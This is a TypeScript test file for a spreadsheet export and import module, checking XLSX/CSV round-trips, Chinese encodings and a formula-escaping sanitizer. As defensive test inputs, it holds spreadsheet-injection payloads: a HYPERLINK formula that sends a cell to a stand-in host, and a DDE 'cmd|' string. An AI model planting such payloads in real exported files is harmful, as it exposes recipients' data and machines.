import { createWriteStream, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { formatDay } from '../../kit/index.ts';
import { csvBytes, openTable, xlsxBytes, type OutCell, type OutColumn, type OutRow, type OutSheet } from './index.ts';
import { fromSafeText, toSafeText } from './safe-text.ts';

const folder = mkdtempSync(join(tmpdir(), 'jiangtong-files-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
let made = 0;

async function written(bytes: AsyncIterable<Buffer>): Promise<string> {
  const path = join(folder, String((made += 1)));
  await pipeline(bytes, createWriteStream(path));
  return path;
}

/** The rows of the first sheet, those without any text left out: a file may or may not have them. */
async function read(path: string): Promise<string[][]> {
  const file = await openTable(path);
  try {
    const rows: string[][] = [];
    for await (const batch of file.sheets[0]?.rows() ?? [])
      for (const { cells, faults } of batch) {
        expect(faults).toEqual([]);
        rows.push([...cells]);
      }
    return rows.map(trimmed).filter((cells) => cells.length > 0);
  } finally {
    await file.close();
  }
}

/** Without the empty cells behind the last. */
function trimmed(cells: readonly string[]): string[] {
  return cells.slice(0, cells.findLastIndex((cell) => cell !== '') + 1);
}

function textOf(cell: OutCell): string {
  if (cell === null || typeof cell === 'string') return cell ?? '';
  if ('day' in cell) return formatDay(cell.day);
  return String(cell.number / 10 ** cell.decimals);
}

function column(header: string): OutColumn {
  return { header, width: 12 };
}

const DANGEROUS = [
  '=1+1',
  '+1',
  '-1',
  '@A1',
  '\t=1',
  "'=1",
  "''+1",
  '＝1',
  '-1+1',
  '_x0041_',
  'a\nb',
  '"',
  'a,b',
  '&lt;<>',
  ' a ',
];
const text = fc.oneof(fc.constantFrom(...DANGEROUS), fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }));
/** CSV has no cell that is empty and yet a text, and reads `="…"` as what is meant by it. */
const csvText = text.filter((one) => !/^="[^"]*"$/u.test(one) && !/\p{Surrogate}/u.test(one) && !one.includes('\0'));
const day = fc.integer({ min: 0, max: 80_000 }).map((days): OutCell => ({ day: days }));
const money = fc.integer({ min: -1e11, max: 1e11 }).map((number): OutCell => ({ number, decimals: 2 }));
const count = fc.integer({ min: 0, max: 1e8 }).map((number): OutCell => ({ number, decimals: 0 }));

function tableOf(cell: fc.Arbitrary<string>): fc.Arbitrary<OutCell[][]> {
  return fc.array(fc.array(fc.oneof(cell, day, money, count, fc.constant(null)), { minLength: 1, maxLength: 6 }), {
    maxLength: 8,
  });
}

function expected(header: readonly string[], rows: readonly OutCell[][]): string[][] {
  return [header, ...rows.map((cells) => cells.map(textOf))].map(trimmed).filter((cells) => cells.length > 0);
}

const HEADER = ['甲', '乙', '丙', '丁', '戊', '己'];

describe('what we write is read back equal', () => {
  test('as XLSX', async () => {
    await fc.assert(
      fc.asyncProperty(tableOf(text), async (table) => {
        const rows: OutRow[] = table.map((cells) => ({ cells, wrong: new Set([1]) }));
        const path = await written(xlsxBytes([{ name: '表', columns: HEADER.map(column), rows: [rows] }]));
        const wellFormed = table.map((cells) =>
          cells.map((cell) => (typeof cell === 'string' ? cell.toWellFormed() : cell)),
        );
        expect(await read(path)).toEqual(expected(HEADER, wellFormed));
      }),
      { numRuns: 60 },
    );
  });

  test('as CSV', async () => {
    await fc.assert(
      fc.asyncProperty(tableOf(csvText), async (table) => {
        const rows = table.map((cells) => ({ cells }));
        const path = await written(csvBytes({ columns: HEADER.map(column), rows: [rows] }));
        const decimals = expected(HEADER, table).map((cells) => cells.map(Number));
        const back = await read(path);
        // A number keeps its two decimals in a CSV: `12.50`.
        expect(back.map((cells) => cells.map(Number))).toEqual(decimals);
        const texts = table.map((cells) => cells.map((cell) => (typeof cell === 'string' ? cell : null)));
        for (const [i, cells] of texts.filter((_, k) => (expected([], [table[k] ?? []])[0]?.length ?? 0) > 0).entries())
          for (const [k, cell] of cells.entries()) if (cell !== null) expect(back[i + 1]?.[k] ?? '').toBe(cell);
      }),
      { numRuns: 60 },
    );
  });

  test.each(['utf-8', 'utf-16le'] as const)('from CSV in %s, with any delimiter', async (encoding) => {
    const { writeFileSync } = await import('node:fs');
    for (const delimiter of [',', '\t', ';']) {
      const lines = [HEADER, ['张三', '1', '', '"a"'], ['李四', '2', '3', '4']].map((cells) =>
        cells.map((cell) => (cell.includes('"') ? `"${cell.replaceAll('"', '""')}"` : cell)).join(delimiter),
      );
      const path = join(folder, String((made += 1)));
      writeFileSync(path, (encoding === 'utf-16le' ? '\uFEFF' : '') + lines.join('\r\n'), encoding);
      expect(await read(path)).toEqual([HEADER, ['张三', '1', '', '"a"'], ['李四', '2', '3', '4']]);
    }
  });

  test('from CSV in GB18030, as a Chinese Excel saves it', async () => {
    const { writeFileSync } = await import('node:fs');
    const path = join(folder, 'gb.csv');
    // 姓名,单位 / 张三,某厂 and 镕, which GB2312 doesn't have, in GBK.
    writeFileSync(path, Buffer.from('d0d5c3fb2cb5a5cebb0d0ad5c5c8fd2cc4b3b3a7e946', 'hex'));
    expect(await read(path)).toEqual([
      ['姓名', '单位'],
      ['张三', '某厂镕'],
    ]);
  });

  test('and digits that a system guarded from spreadsheet programs are digits', async () => {
    const { writeFileSync } = await import('node:fs');
    const path = join(folder, 'guarded.csv');
    writeFileSync(path, '证号,数\n="371502199001011234",1\n"=""0012""",2\n');
    expect(await read(path)).toEqual([
      ['证号', '数'],
      ['371502199001011234', '1'],
      ['0012', '2'],
    ]);
  });
});

describe('a formula in a text never runs', () => {
  test.each(['=HYPERLINK("http://x/?"&A1)', '+1+cmd|a', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1', '－1＋1', '＠a'])(
    '%s',
    (formula) => {
      expect(toSafeText(formula)).toBe(`'${formula}`);
      expect(fromSafeText(toSafeText(formula))).toBe(formula);
    },
  );

  test('numbers and names stay as they are', () => {
    for (const plain of ['-12.50', '0', '张三', "'甲'", 'a=b', '']) expect(toSafeText(plain)).toBe(plain);
  });

  test('in a workbook it is a text in a cell for text, to another program too', async () => {
    const formula = '=1+1';
    const path = await written(xlsxBytes([{ name: '表', columns: [column('甲')], rows: [[{ cells: [formula] }]] }]));
    const book = await new ExcelJS.Workbook().xlsx.readFile(path);
    const cell = book.getWorksheet('表')?.getCell('A2');
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(formula);
    expect(cell?.numFmt).toBe('@');
  });
});

describe('a workbook that we write', () => {
  const sheet: OutSheet = {
    name: '填/表',
    columns: [
      { header: '单位', width: 24, required: true, note: '必填\n18位' },
      { header: '等级', width: 12, choice: { values: ['初级工', '高级工'], only: true } },
    ],
    rows: [[{ cells: ['某厂', { day: 20_332 }], wrong: new Set([0]) }]],
    filter: true,
  };

  test('shows another program its notes, lists, colours, days and frozen header', async () => {
    const path = await written(xlsxBytes([sheet, { ...sheet, name: '说明' }]));
    const book = await new ExcelJS.Workbook().xlsx.readFile(path);
    const [first] = book.worksheets;
    expect(book.worksheets.map(({ name, state }) => [name, state])).toEqual([
      ['填 表', 'visible'],
      ['说明', 'visible'],
      ['选项', 'hidden'],
    ]);
    expect(first?.getCell('B2').value).toEqual(new Date(Date.UTC(2025, 8, 1)));
    expect(first?.getCell('A2').fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } });
    expect(first?.getCell('A1').note).toBe('必填\n18位');
    expect(first?.getCell('B9').dataValidation).toMatchObject({ type: 'list', formulae: ["'选项'!$A$2:$A$3"] });
    expect(first?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(first?.getColumn(1).numFmt).toBe('@');
    expect(book.getWorksheet('选项')?.getCell('A3').value).toBe('高级工');
  });

  test('is the same, byte for byte, whenever it is written', async () => {
    const bytes = async (): Promise<string> =>
      (await Array.fromAsync(xlsxBytes([sheet]))).map((one) => one.toString('hex')).join('');
    expect(await bytes()).toBe(await bytes());
  });

  test('is made as it is read: a row that nobody has asked for is not written', async () => {
    let given = 0;
    function* rows(): Generator<OutRow[]> {
      for (; given < 1_000_000; given += 100)
        yield Array.from({ length: 100 }, (_, i) => ({ cells: [`${String(Math.sin(given + i))}甲乙丙丁`] }));
    }
    let taken = 0;
    for await (const chunk of xlsxBytes([{ name: '表', columns: [column('甲')], rows: rows() }]))
      if ((taken += chunk.length) > 200_000) break;
    expect(given).toBeLessThan(100_000);
  });
});
